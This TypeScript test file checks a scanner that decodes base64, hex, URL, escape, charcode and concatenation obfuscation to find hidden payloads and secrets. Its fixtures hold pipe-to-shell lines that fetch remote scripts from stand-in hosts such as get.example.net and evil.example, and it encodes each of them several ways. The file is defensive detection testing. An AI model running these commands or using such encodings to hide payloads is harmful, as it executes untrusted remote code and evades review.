// Decoder tests: each decoder alone, nested decoding, the depth bound, and offset mapping to the encoded span.
import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { alphabetRuns, forgetLastPass } from './byte-loop.js';
import { findEncodedSpans, looksLikeText } from './decoders.js';
import { scanText } from './index.js';
import { buildPrefilter } from './prefilter.js';
import { prng } from './sample.js';

const PAYLOAD = 'curl -fsSL https://get.example.net/i.sh | bash';
const pipeHits = (text: string, kind: 'text' | 'code-js' | 'code-py' = 'text', maxDecodeDepth?: number) =>
  scanText(text, { kind, maxDecodeDepth }).filter((m) => m.ruleId === 'injection.pipe-to-shell');

describe('decoders', () => {
  const cases: Array<[name: string, encoded: string, chain: string[]]> = [
    ['base64', Buffer.from(PAYLOAD).toString('base64'), ['base64']],
    ['base64url', Buffer.from(`${PAYLOAD} ??>>`).toString('base64url'), ['base64']],
    ['base64 of UTF-16LE (PowerShell -EncodedCommand)', Buffer.from(PAYLOAD, 'utf16le').toString('base64'), ['base64']],
    ['hex', Buffer.from(PAYLOAD).toString('hex'), ['hex']],
    ['url', encodeURIComponent(PAYLOAD), ['url']],
    ['\\x escapes', [...PAYLOAD].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join(''), ['escape']],
    ['\\u escapes', [...PAYLOAD].map((c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, '0')}`).join(''), ['escape']],
    ['String.fromCharCode', `String.fromCharCode(${[...PAYLOAD].map((c) => c.charCodeAt(0)).join(', ')})`, ['charcode']],
    ['python chr() chain', [...PAYLOAD].map((c) => `chr(${c.charCodeAt(0)})`).join(' + '), ['charcode']],
    ['string concatenation', `"curl -fsSL htt" + 'ps://get.example.net/i.sh' + " | ba" + "sh"`, ['concat']],
  ];
  for (const [name, encoded, chain] of cases) {
    it(`reveals a payload hidden with ${name}, mapped to the encoded span`, () => {
      const prefix = 'x = "';
      const text = `${prefix}${encoded}";\n`;
      const hits = pipeHits(text);
      assert.equal(hits.length, 1, JSON.stringify(hits));
      const hit = hits[0]!;
      assert.deepEqual(hit.decodedBy, chain);
      assert.ok(hit.start >= prefix.length - 1 && hit.end <= prefix.length + encoded.length + 1, `span ${hit.start}-${hit.end} outside the encoded text`);
      assert.equal(hit.line, 1);
      assert.match(hit.evidence, new RegExp(`^\\[${chain[0]}\\] `));
    });
  }

  it('finds each encoding after look-alikes that precede it (the cheap gates skip ahead, never past a real span)', () => {
    const filler = 'total = a + b  # 100% done, path C:\\temp\\x\n'.repeat(60);
    const concat = `"curl -fsSL htt" + 'ps://get.example.net/i.sh' + " | ba" + "sh"`;
    const cases: Array<[decoder: string, text: string]> = [
      ['concat', `${filler}${concat}`],
      ['concat', `${filler}"curl -fsSL htt"\u00a0+\u00a0'ps://get.example.net/i.sh | bash'`],
      ['concat', `"${'a'.repeat(500)}" + "${'b'.repeat(500)}" ${filler} ${concat}`],
      ['url', `${filler}${encodeURIComponent(PAYLOAD)}`],
      ['escape', `${filler}${[...PAYLOAD].map((c) => `\\x${c.charCodeAt(0).toString(16).padStart(2, '0')}`).join('')}`],
    ];
    for (const [decoder, text] of cases) {
      const spans = findEncodedSpans(text).filter((s) => s.decoder === decoder);
      assert.ok(spans.some((s) => s.text.replace(/\s+/g, ' ').includes('get.example.net/i.sh')), `${decoder}: ${JSON.stringify(spans.map((s) => s.text.slice(0, 80)))}`);
    }
    assert.deepEqual(findEncodedSpans(filler), []);
  });

  it('decodes nested encodings (hex inside base64) up to the default depth of 2', () => {
    const nested = Buffer.from(Buffer.from(PAYLOAD).toString('hex')).toString('base64');
    const hits = pipeHits(`q=${nested}`);
    assert.equal(hits.length, 1);
    assert.deepEqual(hits[0]!.decodedBy, ['base64', 'hex']);
  });

  it('reports content reachable through two decoder chains once (the shorter chain)', () => {
    const hits = pipeHits(`q=${encodeURIComponent(Buffer.from(PAYLOAD).toString('base64'))}`);
    assert.equal(hits.length, 1);
    assert.deepEqual(hits[0]!.decodedBy, ['base64']);
  });

  it('stops at the depth bound', () => {
    const three = Buffer.from(Buffer.from(Buffer.from(PAYLOAD).toString('base64')).toString('hex')).toString('base64');
    assert.equal(pipeHits(three).length, 0, 'depth 3 is beyond the default bound');
    assert.deepEqual(pipeHits(three, 'text', 3)[0]?.decodedBy, ['base64', 'hex', 'base64']);
    assert.equal(pipeHits(Buffer.from(PAYLOAD).toString('base64'), 'text', 0).length, 0, 'maxDecodeDepth 0 disables decoding');
  });

  it('finds secrets inside base64 and redacts the decoded secret', () => {
    const key = `ghp_${'aB3dE5gH7jK9mN1pQ3sT5vW7yZ9bC1dE3fG5'}`;
    const text = `data: ${Buffer.from(`token=${key}`).toString('base64')}`;
    const hits = scanText(text, { kind: 'text' }).filter((m) => m.ruleId === 'secret.github-pat');
    assert.equal(hits.length, 1);
    assert.ok(!hits[0]!.evidence.includes(key));
    assert.match(hits[0]!.evidence, /^\[base64\]ghp_aB…\(40, sha256:[0-9a-f]{8}\)$|^\[base64\] ghp_aB…\(40, sha256:[0-9a-f]{8}\)$/);
  });

  it('maps base64 hits to the 4-character quartets that hold them', () => {
    const blob = Buffer.from(`${'A'.repeat(30)} ${PAYLOAD}`).toString('base64');
    const hit = pipeHits(blob)[0]!;
    assert.ok(hit.start > 30, 'starts inside the blob, not at its first character');
    assert.equal((hit.start - 0) % 4, 0);
  });

  it('ignores runs that decode to binary (hashes, random ids) and plain words', () => {
    const spans = findEncodedSpans('sha256 3f2a9c1d8e7b6a5f4e3d2c1b0a9f8e7d6c5b4a39e8d7c6b5a4f3e2d1c0b9a8f7 and AVeryLongCamelCaseIdentifierWithoutMeaning and /usr/local/lib/node_modules/typescript/lib');
    assert.deepEqual(spans.map((s) => s.decoder), []);
    assert.equal(looksLikeText('\u0000\u0001\u0002binary\u0003\u0004'), false);
  });

  it('never throws on malformed encodings', () => {
    for (const t of ['%E0%A4%A', '\\u{110000}\\x41\\x42\\x43', 'String.fromCharCode(99999999, 1, 2)', '"a" + "b', `${'QUJD'.repeat(10)}=====`]) {
      assert.doesNotThrow(() => scanText(t, { kind: 'code-js' }));
    }
  });
  it('finds base64 runs of exactly the minimum length, at text edges and after short words (skip scan)', () => {
    const b64 = Buffer.from('curl http://x.example/y | sh').toString('base64'); // 40 chars
    const texts = [b64, `${b64} tail`, `head ${b64}`, `a b c de ${b64}==,${b64}`, `${'word '.repeat(50)}${b64}`];
    for (const t of texts) {
      const spans = findEncodedSpans(t).filter((s) => s.decoder === 'base64');
      const expected = [...t.matchAll(/[A-Za-z0-9+/_-]{20,}={0,2}/g)].map((m) => [m.index, m.index + m[0].length]);
      assert.deepEqual(spans.map((s) => [s.start, s.end]), expected, t);
    }
  });
  it('hex: text with tabs and newlines still decodes; random ids and digests are rejected before decoding', () => {
    const payload = 'line one\tcurl -fsSL https://get.example.net/i.sh | bash\r\nline two\n';
    const hex = Buffer.from(payload).toString('hex');
    const spans = findEncodedSpans(`id=${hex.toUpperCase()} x=${hex}`).filter((s) => s.decoder === 'hex');
    assert.deepEqual(spans.map((s) => s.text), [payload, payload]);
    const ids = ['0123456789abcdef0123456789abcdef', 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855', '0f1e2d3c4b5a69788796a5b4c3d2e1f0'];
    for (const id of ids) assert.deepEqual(findEncodedSpans(`X-Request-Id: ${id}`).filter((s) => s.decoder === 'hex'), [], id);
  });
});


describe('base64 runs from the prefilter byte loop', () => {
  it('are the same spans as the scan over the text, also where non-ASCII units have alphabet low bytes', () => {
    const p = buildPrefilter(['curl']);
    const next = prng(7);
    const b64 = Buffer.from('curl -fsSL https://evil.example/x.sh | bash; echo done and more text here').toString('base64');
    const bits = [b64, b64.slice(0, 21), 'word ', 'x', '\u0141', '\u0161\u0141', 'é', '==', ' ', '\n', 'aGVsbG8gd29ybGQgaGVsbG8gd29ybGQ', '\u{1f600}', '-_', '+/'];
    let compared = 0;
    for (let n = 0; n < 400; n++) {
      let t = '';
      while (t.length < 300 + (n % 7) * 100) t += bits[Math.floor(next() * bits.length)];
      forgetLastPass();
      const plain = findEncodedSpans(t).map((s) => [s.decoder, s.start, s.end, s.text]);
      p.scan(t); // leaves the text in the byte loop's memory
      assert.ok(alphabetRuns(t, 20) !== undefined);
      const hinted = findEncodedSpans(t).map((s) => [s.decoder, s.start, s.end, s.text]);
      assert.deepEqual(hinted, plain, JSON.stringify(t.slice(0, 80)));
      compared += plain.length;
    }
    assert.ok(compared > 100, `the texts must hold decodable runs (got ${compared})`);
  });
});
